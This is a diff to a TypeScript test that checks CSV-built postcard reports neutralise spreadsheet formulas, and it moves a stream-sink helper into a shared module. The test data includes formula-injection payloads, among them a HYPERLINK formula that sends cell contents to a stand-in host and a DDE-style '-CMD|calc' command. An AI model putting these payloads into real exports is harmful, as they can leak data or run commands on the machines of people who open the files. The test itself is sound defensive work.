@@ -1,20 +1,11 @@
-import { Readable, Writable } from 'node:stream';
+import { Readable } from 'node:stream';
 import { text } from 'node:stream/consumers';
 import { parse } from 'csv-parse/sync';
 import { spreadsheetSafe } from '../../src/lib/spreadsheet-cells';
 import { cleanseBytes } from '../support/memory-list';
+import { memorySink } from '../support/memory-sink';
 import { createTestRoot, type TestRoot } from '../support/test-root';
 
-function sink(): Writable & { rows: () => string[][] } {
-  const chunks: Buffer[] = [];
-  const stream = new Writable({
-    write(chunk, _encoding, done) {
-      chunks.push(Buffer.from(chunk));
-      done();
-    },
-  });
-  return Object.assign(stream, { rows: () => parse(Buffer.concat(chunks).toString('utf8')) as string[][] });
-}
 
 // Formulas with no house number in them, so that as a street line they are unreadable (rejected).
 const FORMULAS = ['=HYPERLINK("http://x.example/?"&A)', '+CMD', '-CMD|calc', '@SUM(A)', '\t=CMD', '\r=CMD'];
@@ -37,11 +28,11 @@ describe('reports built from other people\'s files never hand a spreadsheet a fo
       `${100 + i} Main St,,"${formula.replace(/"/g, '""')}",TX,78701`, // printed: the city is not needed with a ZIP
       `"${formula.replace(/"/g, '""')}",,Austin,TX,78701`, // rejected: no house number
     ]).flat();
-    const print = sink();
-    const rejects = sink();
+    const print = memorySink();
+    const rejects = memorySink();
     const summary = await root.services.postcards.issueFromCsv(Readable.from([`address1,address2,city,state,zip\n${rows.join('\n')}\n`]), { print, rejects }, { source: 'formulas.csv' });
     expect(summary).toMatchObject({ printed: FORMULAS.length, rejected: FORMULAS.length });
-    const cells = [...print.rows(), ...rejects.rows()].flat();
+    const cells = [...(parse(print.text()) as string[][]), ...(parse(rejects.text()) as string[][])].flat();
     expect(cells.filter(startsLikeAFormula)).toEqual([]);
     for (const formula of FORMULAS) expect(cells).toContain(`'${formula.trim()}`); // the import trims its cells
   });
